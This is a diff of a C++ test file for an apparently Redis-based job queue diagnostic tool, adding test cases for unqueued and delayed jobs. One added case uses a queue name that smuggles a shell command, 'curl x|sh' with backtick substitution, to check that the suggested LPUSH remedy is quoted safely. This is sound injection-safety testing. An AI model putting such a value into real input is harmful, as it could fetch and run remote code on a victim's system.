@@ -34,6 +34,7 @@ std::vector<Case> unclaimed_cases() {
   const auto gone = [](Situation& s) { s.job.record.clear(), s.job.record_type = "none", s.job.in_queue = 0; };
   const auto nobody = with(pushed(), gone);
   const auto letter = [](Situation& s) { s.dead_letter = DeadLetter{"5-0", "job:12:7", "queue:v", "no_record", kNow}; };
+  const auto shell = [](Situation& s) { s.job.in_queue = 0, s.queue = "queue:v;curl x|sh `id`"; };
   return {
       {"nothing", nobody, "unknown", "no_such_job", "job:12:7", "job list"},
       {"in database 0", with(nobody, [](Situation& s) { s.in_database_0 = true, s.context = 3; }), "unknown",
@@ -51,6 +52,8 @@ std::vector<Case> unclaimed_cases() {
       {"no record came", with(nobody, letter), "missing", "record_never_came", "queue:v", "queue dead --requeue 5-0",
        "dead letter 5-0: no_record"},
       {"record deleted", with(claimed("queued"), gone), "missing", "record_deleted", "was deleted", "write the record"},
+      {"bare record of a type that a shell would run", with(pushed(), shell), "unqueued", "not_queued", "in no queue",
+       "LPUSH 'queue:v;curl x|sh '\"$(printf '\\140')\"'id'"},
       {"bare record", with(pushed(), [](Situation& s) { s.job.in_queue = 0, s.context = 3; }), "unqueued", "not_queued",
        "in no queue", "redis-cli -n 3 LPUSH queue:v job:12:7", "not in queue:v"},
       {"no type", with(pushed(), [](Situation& s) { s.job.in_queue = 0, s.queue.clear(); }), "unqueued",
@@ -205,7 +208,7 @@ std::vector<Case> parked_cases() {
   auto circle = waiting({other("job:12:8", "waiting")});
   circle.cycle = {"job:12:7", "job:12:8", "job:12:7"};
   return {
-      {"later", later(kNow + 7'200'000), "delayed", "not_yet_due", "in 2 h (2023-11-15T00:13:20Z)", "job cancel"},
+      {"later", later(kNow + 7'200'000), "delayed", "postponed", "in 2 h (2023-11-15T00:13:20Z)", "job cancel"},
       {"retry", retry, "delayed", "retry_wait", "in 4 s", "wait", "attempt 2 of 4"},
       {"retry tells the last error", retry, "delayed", "retry_wait", "in 4 s", "wait", "last error: exit code 1"},
       {"due, nobody alive", later(kNow - 9000), "delayed", "due", "no agent is alive", "start an agent"},
